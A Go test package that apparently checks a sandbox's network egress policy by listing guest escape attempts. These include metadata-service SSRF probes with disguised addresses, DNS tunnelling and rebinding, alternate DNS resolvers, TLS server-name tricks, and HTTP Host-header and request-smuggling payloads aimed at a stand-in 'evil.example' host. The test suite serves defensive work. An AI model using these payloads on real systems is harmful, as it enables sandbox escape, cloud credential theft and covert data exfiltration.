// Package escapetest is a table of what guests try to get out by, as code that runs in a guest: in a test's own TCP/IP stack
// or, by e2e, in a virtual machine. It knows how the record of a network is to tell of each. Tests alone may import it.
package escapetest

import (
	"context"
	"crypto/tls"
	"errors"
	"fmt"
	"io"
	"net"
	"net/netip"
	"strings"
	"time"

	"golang.org/x/net/dns/dnsmessage"
)

// Guest is where attempts are made from.
type Guest interface {
	// Dial connects to an address; network is tcp or udp.
	Dial(ctx context.Context, network, address string) (net.Conn, error)
	// Send puts a whole Ethernet frame on the link.
	Send(frame []byte) error
	// Patience is how long an answer is waited for that should not come.
	Patience() time.Duration
}

// The names of the world that attempts are made in, and the addresses that they have there.
const (
	Allowed  = "allowed.example"        // what the policy allows, with the names below it
	Other    = "other.example"          // another's, on the same servers
	Evil     = "evil.example"           // where bytes are not to get
	Rebind   = "rebind.allowed.example" // has the address of a metadata service
	Local    = "local.allowed.example"  // has addresses of loopback
	Private  = "private.allowed.example"
	Mapped   = "mapped.allowed.example" // has the address of a metadata service, in disguise
	Host     = "host.allowed.example"   // has an address of the host's own
	Allowed4 = "93.184.216.34"
	Allowed6 = "2606:2800:220:1::34"
	Evil4    = "203.0.114.66"
	Evil6    = "2a00:1450:4001:66::66"
	Own4     = "93.184.216.99" // the host's
)

// Names are the world's.
func Names() map[string][]netip.Addr {
	names := map[string][]netip.Addr{}
	for name, texts := range map[string][]string{
		Allowed: {Allowed4, Allowed6}, Other: {Allowed4, Allowed6}, Evil: {Evil4, Evil6}, "www." + Allowed: {Allowed4},
		Rebind: {"169.254.169.254"}, Local: {"127.0.0.1", "::1"}, Private: {"10.0.0.7", "fd00::7"},
		Mapped: {"::ffff:169.254.169.254"}, Host: {Own4}, "dns.google": {"8.8.8.8"}, "metadata.google.internal": {"169.254.169.254"},
	} {
		for _, text := range texts {
			names[name] = append(names[name], netip.MustParseAddr(text))
		}
	}
	return names
}

// An Attempt is one way out.
type Attempt struct {
	Name string
	// WithName: it makes sense only where a name is allowed, and is made after that name was looked up.
	WithName bool
	// Try makes it, and returns what came back of it; nothing is the rule.
	Try func(ctx context.Context, g Guest) (string, error)
	// Answers: some of what comes back is honestly come by.
	Answers bool
	// How the record tells of it.
	Protocol string
	To       string // address and port; empty: not looked at
	Flow     string // its name; empty: not looked at
	Reason   string // part of it
	// Reason under a policy that allows no name, where that is another.
	Closed string
}

const (
	gateway4, gateway6 = "192.0.0.1", "fd66:6f72:6b64::1"
	// wait is for what ends by itself, one way or the other.
	wait = 20 * time.Second
)

// All are the attempts.
func All() []Attempt {
	return slicesOf(
		addresses(), nameServers(), names(), metadata(), datagrams(), pings(), otherProtocols(), frames(), servers(), requests(),
	)
}

func slicesOf(lists ...[]Attempt) (all []Attempt) {
	for _, l := range lists {
		all = append(all, l...)
	}
	return all
}

// dial tries to reach an address over TCP, says something, and returns what comes back.
func dial(address, say string) func(context.Context, Guest) (string, error) {
	return func(ctx context.Context, g Guest) (string, error) { return talk(ctx, g, "tcp", address, say) }
}

func datagram(address, say string) func(context.Context, Guest) (string, error) {
	return func(ctx context.Context, g Guest) (string, error) { return talk(ctx, g, "udp", address, say) }
}

func talk(ctx context.Context, g Guest, network, address, say string) (string, error) {
	conn, err := connect(ctx, g, network, address)
	if err != nil {
		return "", err
	}
	defer func() { _ = conn.Close() }()
	if network == "udp" {
		_ = conn.SetDeadline(time.Now().Add(g.Patience()))
	}
	if _, err := io.WriteString(conn, say); err != nil {
		return "", err
	}
	var heard []byte
	for b := make([]byte, 4096); len(heard) < len(b); {
		n, err := conn.Read(b)
		heard = append(heard, b[:n]...)
		if err != nil {
			return string(heard), err
		}
		if network == "udp" {
			break
		}
	}
	return string(heard), nil
}

// connect dials, and sees to it that neither that nor what follows takes for ever.
func connect(ctx context.Context, g Guest, network, address string) (net.Conn, error) {
	ctx, cancel := context.WithTimeout(ctx, wait)
	defer cancel()
	conn, err := g.Dial(ctx, network, address)
	if err != nil {
		return nil, err
	}
	_ = conn.SetDeadline(time.Now().Add(wait))
	return conn, nil
}

func get(host string) string { return "GET / HTTP/1.1\r\nHost: " + host + "\r\n\r\n" }

// refusedAt is an attempt at an address that is refused for a reason.
func refusedAt(name, protocol, address, reason string) Attempt {
	try := dial(address, get(Evil))
	if protocol == "udp" {
		try = datagram(address, "let me out")
	}
	return Attempt{Name: name, Try: try, Protocol: protocol, To: address, Reason: reason}
}

const (
	noRule     = "no rule allows this address"
	metadataIs = "the metadata service"
)

func addresses() []Attempt {
	at := func(name, address, reason string) Attempt { return refusedAt(name, "tcp", address, reason) }
	return []Attempt{
		at("an IPv4 address, HTTP", Evil4+":80", noRule),
		at("an IPv4 address, HTTPS", Evil4+":443", noRule),
		at("an IPv4 address, ssh", Evil4+":22", noRule),
		at("an IPv4 address, a high port", Evil4+":40000", noRule),
		at("an IPv6 address, HTTP", "["+Evil6+"]:80", noRule),
		at("an IPv6 address, HTTPS", "["+Evil6+"]:443", noRule),
		at("an allowed server's other address", "93.184.216.35:443", noRule),
		at("a private address", "10.0.0.7:80", "private"),
		at("a neighbour's container engine", "172.17.0.1:2375", "private"),
		at("a router at home", "192.168.1.1:80", "private"),
		at("the range of providers", "100.64.0.1:80", "providers"),
		at("a unique local address", "[fd00::7]:80", "private"),
		at("a benchmark range", "198.18.0.1:80", "benchmarks"),
		at("a documentation range", "203.0.113.1:80", "documentation"),
		at("the host's own address, the daemon's port", Own4+":7777", "of this host"),
		at("the host's own address, ssh", Own4+":22", "of this host"),
		at("the gateway, HTTP", gateway4+":80", "the gateway answers for names only"),
		at("the gateway, ssh, IPv6", "["+gateway6+"]:22", "the gateway answers for names only"),
		// By frames: a guest would ask for their Ethernet addresses first, and hear nothing.
		{
			Name: "a sibling, next door", Protocol: "tcp", To: "192.0.0.3:22", Reason: "reserved for protocols",
			Try: send(frame(ip4(6, guest4, "192.0.0.3", tcpSYN(guest4, "192.0.0.3", 22)))),
		},
		{
			Name: "a sibling, next door, IPv6", Protocol: "tcp", To: "[fd66:6f72:6b64::3]:22", Reason: "private",
			Try: send(frame6(ip6(6, guest6, "fd66:6f72:6b64::3", tcpSYN(guest6, "fd66:6f72:6b64::3", 22)))),
		},
		{
			Name: "a sibling, at the address that all have", Protocol: "tcp", To: "192.0.0.2:22", Reason: "own address",
			Try: send(frame(ip4(6, guest4, guest4, tcpSYN(guest4, guest4, 22)))),
		},
		{
			Name: "the host's loopback", Protocol: "tcp", To: "127.0.0.1:7777", Reason: "loopback",
			Try: send(frame(ip4(6, guest4, "127.0.0.1", tcpSYN(guest4, "127.0.0.1", 7777)))),
		},
		{
			Name: "the host's loopback, IPv6", Protocol: "tcp", To: "[::1]:7777", Reason: "loopback",
			Try: send(frame6(ip6(6, guest6, "::1", tcpSYN(guest6, "::1", 7777)))),
		},
		{
			Name: "address 0.0.0.0", Protocol: "tcp", To: "0.0.0.0:7777", Reason: "unspecified",
			Try: send(frame(ip4(6, guest4, "0.0.0.0", tcpSYN(guest4, "0.0.0.0", 7777)))),
		},
		{
			Name: "address ::", Protocol: "tcp", To: "[::]:7777", Reason: "unspecified",
			Try: send(frame6(ip6(6, guest6, "::", tcpSYN(guest6, "::", 7777)))),
		},
		{
			Name: "a link-local address", Protocol: "tcp", To: "[fe80::1]:22", Reason: "link-local",
			Try: send(frame6(ip6(6, guest6, "fe80::1", tcpSYN(guest6, "fe80::1", 22)))),
		},
	}
}

func nameServers() []Attempt {
	q := string(question("x."+Evil+".", dnsmessage.TypeTXT))
	framed := string([]byte{0, byte(len(q))}) + q
	udp := func(name, address, reason string) Attempt {
		return Attempt{Name: name, Try: datagram(address, q), Protocol: "udp", To: address, Reason: reason}
	}
	return []Attempt{
		udp("another name server", "8.8.8.8:53", noRule),
		udp("another name server, IPv6", "[2001:4860:4860::8888]:53", noRule),
		udp("another name server, another port", "9.9.9.9:9953", noRule),
		udp("a private name server", "10.0.0.53:53", "private"),
		{Name: "another name server, over TCP", Try: dial("8.8.8.8:53", framed), Protocol: "tcp", To: "8.8.8.8:53", Reason: noRule},
		{Name: "DNS over TLS", Try: dial("8.8.8.8:853", string(hello("dns.google"))), Protocol: "tcp", To: "8.8.8.8:853", Reason: noRule},
		{Name: "DNS over HTTPS", Try: dial("8.8.8.8:443", string(hello("dns.google"))), Protocol: "tcp", To: "8.8.8.8:443", Reason: noRule},
		{Name: "DNS over QUIC", Try: datagram("9.9.9.9:853", quic()), Protocol: "udp", To: "9.9.9.9:853", Reason: noRule},
		{Name: "multicast DNS", Try: sendUDP("224.0.0.251", 5353, q), Protocol: "udp", To: "224.0.0.251:5353", Reason: "multicast"},
		{Name: "multicast DNS, IPv6", Try: send(frame6(ip6(17, guest6, "ff02::fb", udpPacket(guest6, "ff02::fb", 5353, q)))), Protocol: "udp", To: "[ff02::fb]:5353", Reason: "multicast"},
	}
}

// asked is a question to the gateway that is refused.
func asked(name, what string, qtype dnsmessage.Type, reason string) Attempt {
	return Attempt{
		Name: name, Protocol: "dns", Reason: reason,
		Try: func(ctx context.Context, g Guest) (string, error) {
			addrs, code, err := Ask(ctx, g, what, qtype)
			if len(addrs) > 0 {
				return fmt.Sprint(addrs), nil
			}
			return "", fmt.Errorf("%v %w", code, err)
		},
	}
}

// ofAllowed is a question about a name that is allowed, with an answer that is not.
func ofAllowed(name, what string, qtype dnsmessage.Type, reason string) Attempt {
	a := asked(name, what, qtype, reason)
	a.Closed, a.Flow = "no rule allows this name", what
	return a
}

func names() []Attempt {
	const no, notName = "no rule allows this name", "not a name"
	flow := func(a Attempt, name string) Attempt {
		a.Flow = name
		return a
	}
	return []Attempt{
		flow(asked("a name", Evil, dnsmessage.TypeA, no), Evil),
		flow(asked("a name, for IPv6", "v6."+Evil, dnsmessage.TypeAAAA, no), "v6."+Evil),
		flow(asked("a tunnel in names", "c2VjcmV0.t."+Evil, dnsmessage.TypeTXT, no), "c2vjcmv0.t."+Evil),
		flow(asked("a tunnel in NULL records", "n."+Evil, 10, no), "n."+Evil),
		flow(asked("an allowed name as a label", Allowed+"."+Evil, dnsmessage.TypeA, no), Allowed+"."+Evil),
		flow(asked("an allowed name as an ending", "evil"+Allowed, dnsmessage.TypeA, no), "evil"+Allowed),
		flow(asked("a resolver's name", "dns.google", dnsmessage.TypeA, no), "dns.google"),
		flow(asked("the name of the metadata service", "metadata.google.internal", dnsmessage.TypeA, no), "metadata.google.internal"),
		flow(asked("a name that holds an address", "169.254.169.254.nip.io", dnsmessage.TypeA, no), "169.254.169.254.nip.io"),
		asked("an address as a name", "169.254.169.254", dnsmessage.TypeA, notName),
		asked("an address as a name, one number", "2852039166", dnsmessage.TypeA, notName),
		asked("an address as a name, hexadecimal", "0xa9fea9fe", dnsmessage.TypeA, notName),
		asked("an address as a name, octal", "0251.0376.0251.0376", dnsmessage.TypeA, notName),
		asked("an address as a name, three numbers", "169.254.43518", dnsmessage.TypeA, notName),
		asked("a name with a NUL", Allowed+"\x00."+Evil, dnsmessage.TypeA, notName),
		asked("a name with a space", Allowed+" ."+Evil, dnsmessage.TypeA, notName),
		flow(asked("a reverse name", "66.114.0.203.in-addr.arpa", dnsmessage.TypePTR, no), "66.114.0.203.in-addr.arpa"),
		ofAllowed("a tunnel in an allowed name's texts", "txt."+Allowed, dnsmessage.TypeTXT, "only addresses"),
		ofAllowed("keys for encrypted hellos", "https."+Allowed, 65, "only addresses"),
		ofAllowed("everything about a name", "any."+Allowed, dnsmessage.TypeALL, "only addresses"),
		ofAllowed("a zone", "zone."+Allowed, dnsmessage.TypeAXFR, "only addresses"),
		ofAllowed("rebinding to metadata", Rebind, dnsmessage.TypeA, metadataIs),
		ofAllowed("rebinding to loopback", Local, dnsmessage.TypeA, "loopback"),
		ofAllowed("rebinding to loopback, IPv6", Local, dnsmessage.TypeAAAA, "loopback"),
		ofAllowed("rebinding to a private address", Private, dnsmessage.TypeA, "private"),
		ofAllowed("rebinding to a private address, IPv6", Private, dnsmessage.TypeAAAA, "private"),
		ofAllowed("rebinding to an IPv4-mapped address", Mapped, dnsmessage.TypeA, metadataIs),
		ofAllowed("rebinding to the host", Host, dnsmessage.TypeA, "of this host"),
		{
			Name: "a question of another class", Protocol: "dns", Reason: "only questions of class IN",
			Try: func(ctx context.Context, g Guest) (string, error) {
				q := question("version.bind.", dnsmessage.TypeTXT)
				q[len(q)-1] = 3
				heard, err := talk(ctx, g, "udp", gateway4+":53", string(q))
				return answers(heard), errors.Join(errRefused, err)
			},
		},
		{
			Name: "two questions at once", Protocol: "dns", Reason: "not a question",
			Try: func(ctx context.Context, g Guest) (string, error) {
				q := question(Evil+".", dnsmessage.TypeA)
				q = append(q, q[12:]...)
				q[5] = 2
				heard, err := talk(ctx, g, "udp", gateway4+":53", string(q))
				return answers(heard), errors.Join(errRefused, err)
			},
		},
		{Name: "the gateway's other ports, UDP", Try: datagram(gateway4+":123", "time?"), Protocol: "udp", To: gateway4 + ":123", Reason: "the gateway answers for names only"},
	}
}

var errRefused = errors.New("the answer is none")

// answers is what a reply answers; nothing: it refuses.
func answers(reply string) string {
	var m dnsmessage.Message
	if m.Unpack([]byte(reply)) != nil || len(m.Answers) == 0 {
		return ""
	}
	return fmt.Sprint(m.Answers)
}

func metadata() []Attempt {
	at := func(address, reason string) Attempt {
		return refusedAt("metadata at "+address, "tcp", address, reason)
	}
	bare := func(address, reason string) Attempt {
		return Attempt{
			Name: "metadata at " + address, Protocol: "tcp", To: netip.AddrPortFrom(netip.MustParseAddr(address), 80).String(), Reason: reason,
			Try: send(frame6(ip6(6, guest6, address, tcpSYN(guest6, address, 80)))),
		}
	}
	return []Attempt{
		at("169.254.169.254:80", metadataIs),
		at("169.254.169.254:443", metadataIs),
		at("169.254.170.2:80", "credentials"),
		at("100.100.100.200:80", metadataIs),
		at("168.63.129.16:80", metadataIs),
		at("192.0.0.192:80", metadataIs),
		at("[fd00:ec2::254]:80", metadataIs),
		at("[fd20:ce::254]:80", metadataIs),
		bare("::ffff:169.254.169.254", ""),
		bare("::ffff:0:a9fe:a9fe", "in disguise"),
		bare("::a9fe:a9fe", "in disguise"),
		bare("64:ff9b::a9fe:a9fe", "in disguise"),
		bare("64:ff9b:1::a9fe:a9fe", "in disguise"),
		bare("2002:a9fe:a9fe::1", "in disguise"),
		bare("2001:0:a9fe:a9fe::1", "in disguise"),
		{Name: "metadata over UDP", Try: datagram("169.254.169.254:80", "x"), Protocol: "udp", To: "169.254.169.254:80", Reason: metadataIs},
	}
}

func datagrams() []Attempt {
	at := func(name, address, reason string) Attempt { return refusedAt(name, "udp", address, reason) }
	return []Attempt{
		at("UDP", Evil4+":9999", noRule),
		at("UDP, IPv6", "["+Evil6+"]:9999", noRule),
		at("the time", "162.159.200.1:123", noRule),
		{Name: "QUIC", Try: datagram(Evil4+":443", quic()), Protocol: "udp", To: Evil4 + ":443", Reason: "UDP to port 443"},
		{Name: "QUIC, IPv6", Try: datagram("["+Evil6+"]:443", quic()), Protocol: "udp", To: "[" + Evil6 + "]:443", Reason: "UDP to port 443"},
		{Name: "a tunnel's handshake", Try: datagram(Evil4+":51820", strings.Repeat("\x01", 148)), Protocol: "udp", To: Evil4 + ":51820", Reason: noRule},
		{Name: "broadcast", Try: sendUDP("255.255.255.255", 9, "x"), Protocol: "udp", To: "255.255.255.255:9", Reason: "broadcast"},
		{Name: "the link's broadcast", Try: sendUDP("192.0.0.7", 9, "x"), Protocol: "udp", To: "192.0.0.7:9", Reason: "reserved for protocols"},
		{Name: "devices that announce themselves", Try: sendUDP("239.255.255.250", 1900, "M-SEARCH"), Protocol: "udp", To: "239.255.255.250:1900", Reason: "multicast"},
		{
			Name: "QUIC to an allowed server", WithName: true, Try: datagram(Allowed4+":443", quic()), Protocol: "udp", To: Allowed4 + ":443",
			Reason: "UDP to port 443",
		},
		{
			Name: "QUIC to an allowed server's other port", WithName: true, Try: datagram(Allowed4+":8443", quic()), Protocol: "udp", To: Allowed4 + ":8443",
			Reason: "QUIC hides",
		},
	}
}

// Look looks an allowed name up, so that its addresses are the guest's to use.
func Look(ctx context.Context, g Guest) error {
	for qtype, want := range map[dnsmessage.Type]string{dnsmessage.TypeA: Allowed4, dnsmessage.TypeAAAA: Allowed6} {
		addrs, code, err := Ask(ctx, g, Allowed, qtype)
		if err != nil || len(addrs) != 1 || addrs[0].String() != want {
			return fmt.Errorf("look up %s: %v %v: %w", Allowed, code, addrs, err)
		}
	}
	return nil
}

// Ask asks the gateway for a name's addresses.
func Ask(ctx context.Context, g Guest, name string, qtype dnsmessage.Type) ([]netip.Addr, dnsmessage.RCode, error) {
	conn, err := connect(ctx, g, "udp", gateway4+":53")
	if err != nil {
		return nil, 0, err
	}
	defer func() { _ = conn.Close() }()
	if _, err := conn.Write(question(name+".", qtype)); err != nil {
		return nil, 0, err
	}
	reply := make([]byte, 4096)
	n, err := conn.Read(reply)
	if err != nil {
		return nil, 0, err
	}
	var m dnsmessage.Message
	if err := m.Unpack(reply[:n]); err != nil {
		return nil, 0, err
	}
	var addrs []netip.Addr
	for _, r := range m.Answers {
		switch body := r.Body.(type) {
		case *dnsmessage.AResource:
			addrs = append(addrs, netip.AddrFrom4(body.A))
		case *dnsmessage.AAAAResource:
			addrs = append(addrs, netip.AddrFrom16(body.AAAA))
		}
	}
	return addrs, m.RCode, nil
}

func question(name string, qtype dnsmessage.Type) []byte {
	m := dnsmessage.Message{
		Header:    dnsmessage.Header{ID: 77, RecursionDesired: true},
		Questions: []dnsmessage.Question{{Name: dnsmessage.MustNewName(name), Type: qtype, Class: dnsmessage.ClassINET}},
	}
	b, err := m.Pack()
	if err != nil {
		panic(err) // a name of the table's
	}
	return b
}

// servers are attempts by TLS at an address that is allowed for another name.
func servers() []Attempt {
	const at = Allowed4 + ":443"
	tlsTo := func(name, say, reason string) Attempt {
		return Attempt{Name: name, WithName: true, Try: dial(at, say), Protocol: "tcp", To: at, Reason: reason}
	}
	client := func(name, address, server, reason string) Attempt {
		return Attempt{
			Name: name, WithName: true, Protocol: "tcp", To: address, Reason: reason,
			Try: func(ctx context.Context, g Guest) (string, error) { return Fetch(ctx, g, address, server, "") },
		}
	}
	return []Attempt{
		client("TLS for another server", at, Evil, "was not given this address"),
		client("TLS for another server, IPv6", "["+Allowed6+"]:443", Evil, "was not given this address"),
		client("TLS for another server at the same address", at, Other, "was not given this address"),
		client("TLS for another server on another port", Allowed4+":8443", Evil, "was not given this address"),
		client("TLS for no server", at, "", "names no server"),
		tlsTo("TLS for an address", string(hello("169.254.169.254")), "is not a name"),
		tlsTo("TLS with an encrypted hello", string(hello(Allowed, extension(0xfe0d, []byte{0, 0}))), "encrypted client hello"),
		tlsTo("TLS with two names", string(hello(Allowed, extension(0, nameList(Evil)))), "repeated extension"),
		tlsTo("TLS with a name and a NUL", string(hello(Allowed+"\x00."+Evil)), "server name"),
		tlsTo("TLS in pieces, for another server", pieces(hello(Evil), 7), "was not given this address"),
		tlsTo("TLS after an alert", string(record(21, []byte{1, 0}))+string(hello(Evil)), "does not begin with a client hello"),
		tlsTo("TLS with a second hello for another server", string(hello(Allowed))+string(record(20, []byte{1}))+string(hello(Evil)), "second client hello"),
		tlsTo("an old hello", "\x80\x2e\x01\x03\x01\x00\x15\x00\x00\x00\x10"+strings.Repeat("x", 40), "neither TLS nor HTTP"),
		tlsTo("ssh on the port of HTTPS", "SSH-2.0-x\r\n", "neither TLS nor HTTP"),
		tlsTo("HTTP on the port of HTTPS", get(Evil), "was not given this address"),
	}
}

// Fetch asks a server over TLS, whoever it is, for a page of host's, and returns what it says. Empty host: the server's.
func Fetch(ctx context.Context, g Guest, address, server, host string) (string, error) {
	conn, err := connect(ctx, g, "tcp", address)
	if err != nil {
		return "", err
	}
	defer func() { _ = conn.Close() }()
	secure := tls.Client(conn, &tls.Config{ServerName: server, InsecureSkipVerify: true}) //nolint:gosec // the attempt is not to be refused by the guest
	if err := secure.HandshakeContext(ctx); err != nil {
		return "", err
	}
	if host == "" {
		host = server
	}
	if _, err := io.WriteString(secure, "GET / HTTP/1.0\r\nHost: "+host+"\r\n\r\n"); err != nil {
		return "", err
	}
	heard, err := io.ReadAll(io.LimitReader(secure, 4096))
	return string(heard), err
}

// requests are attempts by HTTP at an address that is allowed for another name.
func requests() []Attempt {
	const at, differ = Allowed4 + ":80", "was not given this address"
	ask := func(name, say, reason string) Attempt {
		return Attempt{Name: "HTTP " + name, WithName: true, Try: dial(at, say), Protocol: "tcp", To: at, Reason: reason}
	}
	later := func(name, say string) Attempt {
		a := ask(name, say, differ)
		a.Answers = true
		return a
	}
	ok := get(Allowed)
	return []Attempt{
		ask("for another host", get(Evil), differ),
		ask("for another host at the same address", get(Other), differ),
		ask("for another host with a port", get(Evil+":80"), differ),
		ask("for the metadata service", get("169.254.169.254"), "is not a name"),
		ask("for the metadata service, IPv6", get("[::ffff:169.254.169.254]"), "is not a name"),
		ask("for no host", "GET / HTTP/1.1\r\n\r\n", "names no server"),
		ask("for no host, old", "GET / HTTP/1.0\r\n\r\n", "names no server"),
		ask("for two hosts", "GET / HTTP/1.1\r\nHost: "+Allowed+"\r\nHost: "+Evil+"\r\n\r\n", "2 Host headers"),
		ask("with another target", "GET http://"+Evil+"/ HTTP/1.1\r\nHost: "+Allowed+"\r\n\r\n", "differ"),
		ask("with a user in the target", "GET http://"+Allowed+"@"+Evil+"/ HTTP/1.1\r\nHost: "+Allowed+"\r\n\r\n", "a host that is none"),
		ask("with a user in the host", get(Allowed+"@"+Evil), "a host that is none"),
		ask("with a list of hosts", get(Allowed+", "+Evil), "a host that is none"),
		ask("with a folded header", "GET / HTTP/1.1\r\nX: y\r\n Host: "+Evil+"\r\nHost: "+Allowed+"\r\n\r\n", "header's name"),
		ask("with a space before the colon", "GET / HTTP/1.1\r\nHost : "+Evil+"\r\nHost: "+Allowed+"\r\n\r\n", "header's name"),
		ask("with bare line feeds", "GET / HTTP/1.1\nHost: "+Evil+"\n\n", "CR LF"),
		ask("with a NUL in the host", get(Allowed+"\x00"+Evil), "control character"),
		ask("of version 0.9", "GET /\r\n", "HTTP/0.9"),
		ask("of version 2", "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n", "HTTP/2"),
		ask("through a proxy", "CONNECT "+Evil+":443 HTTP/1.1\r\nHost: "+Evil+":443\r\n\r\n", differ),
		ask("behind a proxy's header", "PROXY TCP4 1.2.3.4 5.6.7.8 1 2\r\n"+get(Evil), "proxy's connection"),
		ask("not at all", "\x00\x01\x02", "neither TLS nor HTTP"),
		ask("in the body of a GET", "GET / HTTP/1.1\r\nHost: "+Allowed+"\r\nContent-Length: 40\r\n\r\n"+get(Evil), "a GET with a body"),
		ask("with two lengths", "POST / HTTP/1.1\r\nHost: "+Allowed+"\r\nContent-Length: 3\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n"+get(Evil), "more than one way"),
		ask("with a strange encoding", "POST / HTTP/1.1\r\nHost: "+Allowed+"\r\nTransfer-Encoding: xchunked\r\n\r\n0\r\n\r\n"+get(Evil), "other than chunked"),
		later("for another host on a connection that was allowed", ok+get(Evil)),
		later("for another host after a body", "POST / HTTP/1.1\r\nHost: "+Allowed+"\r\nContent-Length: 2\r\n\r\nok"+get(Evil)),
		later("for another host after chunks", "POST / HTTP/1.1\r\nHost: "+Allowed+"\r\nTransfer-Encoding: chunked\r\n\r\n2\r\nok\r\n0\r\n\r\n"+get(Evil)),
		later("for another host after an upgrade that nobody answered", "GET / HTTP/1.1\r\nHost: "+Allowed+"\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n\r\n"+get(Evil)),
		later("in a tunnel that was allowed", "CONNECT "+Allowed+":80 HTTP/1.1\r\n\r\n"+get(Evil)),
		{
			Name: "where an allowed server redirects to", WithName: true, Protocol: "dns", Flow: "redirected." + Evil, Reason: "no rule allows this name",
			Try: redirected,
		},
	}
}

// redirected follows an allowed server's redirection.
func redirected(ctx context.Context, g Guest) (string, error) {
	heard, err := talk(ctx, g, "tcp", Allowed4+":80", "GET /redirect HTTP/1.0\r\nHost: "+Allowed+"\r\n\r\n")
	_, location, ok := strings.Cut(heard, "Location: http://")
	if !ok {
		return "", fmt.Errorf("no redirection: %q: %w", heard, err)
	}
	host, _, _ := strings.Cut(location, "/")
	addrs, code, err := Ask(ctx, g, host, dnsmessage.TypeA)
	if len(addrs) > 0 {
		return fmt.Sprint(addrs), nil
	}
	return "", errors.Join(fmt.Errorf("%s: %v", host, code), err)
}
